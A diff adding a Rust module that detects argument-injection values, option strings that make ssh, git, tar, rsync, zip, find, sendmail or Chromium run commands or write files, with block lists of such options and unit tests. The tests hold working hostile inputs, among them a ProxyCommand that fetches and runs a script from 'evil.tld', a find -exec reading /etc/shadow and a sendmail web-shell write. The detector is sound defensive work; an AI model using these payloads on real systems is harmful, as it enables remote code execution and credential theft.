@@ -1,0 +1,256 @@
+//! Argument injection: a value that reaches a program's argument vector as an *option*.
+//!
+//! No shell is needed for this attack. An application that builds `argv` without a `--`
+//! before user input, passes a value through PHP's `escapeshellcmd` (which leaves `-`
+//! alone), or hands it to `mail()`'s fifth parameter, lets the value pick the program's
+//! options. A few options make the program run a command line or write a file where the
+//! attacker says: ssh's `ProxyCommand`, git's `--upload-pack` and `core.sshCommand`, tar's
+//! `--checkpoint-action=exec=`, rsync's `--rsh`, zip's `-TT`, find's `-exec`, sendmail's
+//! `-X` log file, Chromium's launcher prefixes. Those options, written as options (a dash
+//! at the start of a word) with a value, are the attack; any other option is not.
+
+/// Options of one dash or two (lower-case, without the dashes) whose value is a command line
+/// the program runs.
+const COMMAND_OPTIONS: &[&[u8]] = &[
+    // git
+    b"upload-pack",
+    b"receive-pack",
+    b"exec",
+    // tar
+    b"to-command",
+    b"use-compress-program",
+    b"rsh-command",
+    b"info-script",
+    b"new-volume-script",
+    // rsync
+    b"rsh",
+    b"rsync-path",
+    // zip
+    b"unzip-command",
+    // npm, yarn
+    b"script-shell",
+    // wget
+    b"use-askpass",
+    // Chromium and Electron
+    b"gpu-launcher",
+    b"renderer-cmd-prefix",
+    b"utility-cmd-prefix",
+    b"browser-subprocess-path",
+];
+
+/// ssh configuration keys (given with `-o`) whose value is a command line.
+const SSH_COMMAND_KEYS: &[&[u8]] = &[b"proxycommand", b"localcommand", b"knownhostscommand"];
+
+/// git configuration keys (given with `-c key=value` or `--config=key=value`) whose value is
+/// a command line.
+const GIT_COMMAND_KEYS: &[&[u8]] = &[
+    b"core.sshcommand",
+    b"core.gitproxy",
+    b"core.pager",
+    b"core.editor",
+    b"core.fsmonitor",
+    b"core.hookspath",
+    b"protocol.ext.allow",
+];
+
+/// Longest option name read.
+const MAX_NAME: usize = 32;
+/// Most dashes examined per value.
+const MAX_DASHES: usize = 64;
+
+/// Whether `v` injects an option that runs a command or writes an attacker-chosen file.
+pub(super) fn option_injection(v: &[u8]) -> bool {
+    memchr::memchr_iter(b'-', v)
+        .take(MAX_DASHES)
+        .any(|at| opens_word(v, at) && dangerous_option(v, at))
+}
+
+/// An option opens a word: the value's start, or a blank or quote before the dash.
+fn opens_word(v: &[u8], at: usize) -> bool {
+    at == 0 || matches!(v[at - 1], b' ' | b'\t' | b'\'' | b'"' | b'+')
+}
+
+fn dangerous_option(v: &[u8], at: usize) -> bool {
+    let double = v.get(at + 1) == Some(&b'-');
+    let from = at + 1 + usize::from(double);
+    let name_len = v[from..]
+        .iter()
+        .take(MAX_NAME + 1)
+        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'-' || c == b'_' || c == b'.')
+        .count();
+    if name_len == 0 || name_len > MAX_NAME {
+        return false;
+    }
+    let name = &v[from..from + name_len];
+    let after = from + name_len;
+    if double {
+        if name.eq_ignore_ascii_case(b"config") && v.get(after) == Some(&b'=') {
+            return git_key(v, after + 1);
+        }
+        // `--checkpoint-action=exec=sh x.sh`: only the `exec` action runs anything.
+        if name.eq_ignore_ascii_case(b"checkpoint-action") {
+            return v.get(after) == Some(&b'=')
+                && v[after + 1..]
+                    .get(..5)
+                    .is_some_and(|a| a.eq_ignore_ascii_case(b"exec="))
+                && has_operand(v, after + 6);
+        }
+        // `--exec` names a command in too many tools' documentation (`--exec "CMD"`); git's
+        // `--exec=<path>` is glued.
+        let delimited = if name.eq_ignore_ascii_case(b"exec") {
+            v.get(after) == Some(&b'=')
+        } else {
+            matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+'))
+        };
+        return COMMAND_OPTIONS.iter().any(|o| name.eq_ignore_ascii_case(o))
+            && delimited
+            && has_operand(v, after + 1);
+    }
+    match name {
+        // ssh: `-oProxyCommand=…`, `-o ProxyCommand=…`, `-o "ProxyCommand …"`.
+        [b'o', key @ ..] if !key.is_empty() => ssh_key(key, v, after),
+        b"o" => {
+            let k = skip_blanks_and_quote(v, after);
+            let n = v[k..]
+                .iter()
+                .take(MAX_NAME + 1)
+                .take_while(|c| c.is_ascii_alphanumeric())
+                .count();
+            n <= MAX_NAME && ssh_key(&v[k..k + n], v, k + n)
+        }
+        // git: `-c core.sshCommand=…`.
+        b"c" => {
+            matches!(v.get(after), Some(b' ' | b'\t' | b'+')) && {
+                let k = skip_blanks_and_quote(v, after);
+                git_key(v, k)
+            }
+        }
+        // find: `-exec cmd {} ;`, `-execdir`, `-ok`, `-okdir`: a command and its end.
+        // A value that names `find` itself is a whole command line (documentation, or a
+        // shell injection the command-start scan judges), not an injected argument.
+        b"exec" | b"execdir" | b"ok" | b"okdir" => {
+            memchr::memmem::find(&v[..at], b"find ").is_none() && find_action(v, after)
+        }
+        // zip: `-TT cmd` (zip's own test command; upper case only).
+        b"TT" => {
+            matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+')) && has_operand(v, after + 1)
+        }
+        // sendmail: `-X/var/www/x.php` logs all traffic, the attacker's body included, to a
+        // file of the attacker's choice; `-OQueueDirectory=/tmp` goes with it.
+        b"X" => {
+            let k = skip_blanks_and_quote(v, after);
+            v.get(k) == Some(&b'/') && v.get(k + 1).is_some_and(|&c| c != b' ')
+        }
+        _ => false,
+    }
+}
+
+fn ssh_key(key: &[u8], v: &[u8], after: usize) -> bool {
+    SSH_COMMAND_KEYS.iter().any(|k| key.eq_ignore_ascii_case(k))
+        && matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+'))
+        && has_operand(v, after + 1)
+}
+
+/// A git configuration key that runs a command, `=`, and a value (`core.sshCommand=id`).
+fn git_key(v: &[u8], k: usize) -> bool {
+    let n = v[k.min(v.len())..]
+        .iter()
+        .take(MAX_NAME + 1)
+        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'.')
+        .count();
+    let key = &v[k.min(v.len())..(k + n).min(v.len())];
+    GIT_COMMAND_KEYS.iter().any(|g| key.eq_ignore_ascii_case(g))
+        && v.get(k + n) == Some(&b'=')
+        && has_operand(v, k + n + 1)
+}
+
+/// find's action: a word, then `{}`, `;` or `+` ending the command it runs.
+fn find_action(v: &[u8], after: usize) -> bool {
+    if !matches!(v.get(after), Some(b' ' | b'\t' | b'+')) {
+        return false;
+    }
+    let k = skip_blanks_and_quote(v, after);
+    let word = v[k..]
+        .iter()
+        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-'))
+        .count();
+    if word == 0 {
+        return false;
+    }
+    let rest = &v[k + word..v.len().min(k + word + 256)];
+    let trimmed = rest.trim_ascii_end();
+    memchr::memmem::find(rest, b"{}").is_some()
+        || trimmed.ends_with(b"\\;")
+        || trimmed.ends_with(b" ;")
+        || trimmed.ends_with(b" +")
+}
+
+fn skip_blanks_and_quote(v: &[u8], mut k: usize) -> usize {
+    while v
+        .get(k)
+        .is_some_and(|&c| matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"'))
+    {
+        k += 1;
+    }
+    k
+}
+
+/// Something other than blanks and quotes at `k`: the option has a value.
+fn has_operand(v: &[u8], k: usize) -> bool {
+    v.get(skip_blanks_and_quote(v, k)).is_some()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::option_injection;
+
+    #[test]
+    fn options_that_run_commands() {
+        for v in [
+            "-oProxyCommand=id",
+            "-oProxyCommand=\"sh -c id\" x",
+            "-o ProxyCommand=curl evil.tld|sh",
+            "host -o 'LocalCommand=id'",
+            "--upload-pack=touch /tmp/pwn",
+            "x' --receive-pack='id'",
+            "-c core.sshCommand='id' ",
+            "--config=core.fsmonitor=id",
+            "--checkpoint=1 --checkpoint-action=exec=sh shell.sh",
+            "--use-compress-program=sh",
+            "--rsh=sh -c id",
+            "-T -TT 'sh #'",
+            "a@b.c -X/var/www/html/shell.php",
+            "-X /tmp/x.php -OQueueDirectory=/tmp",
+            "x -exec cat /etc/shadow {} +",
+            "-exec id ;",
+            "--gpu-launcher=\"bash -c id\"",
+        ] {
+            assert!(option_injection(v.as_bytes()), "{v}");
+        }
+    }
+
+    #[test]
+    fn ordinary_options_and_dashes() {
+        for v in [
+            "-o output.txt",
+            "--exec",
+            "well-known -exec",
+            "see ProxyCommand in ssh_config",
+            "ssh-o ProxyCommand",
+            "--checkpoint-action=dot",
+            "-c core.autocrlf=true",
+            "--config=user.name=Ann",
+            "-X",
+            "-Xmx512m",
+            "-TT",
+            "2024-05-01 -- 2024-06-01",
+            "re-exec the job",
+            "-execute order 66",
+            "pros -exec cons",
+            "$ find . -name '*.py' -exec cat \\{} \\; | wc -l",
+            "--exec \"before_dl:CMD\"",
+        ] {
+            assert!(!option_injection(v.as_bytes()), "{v}");
+        }
+    }
+}
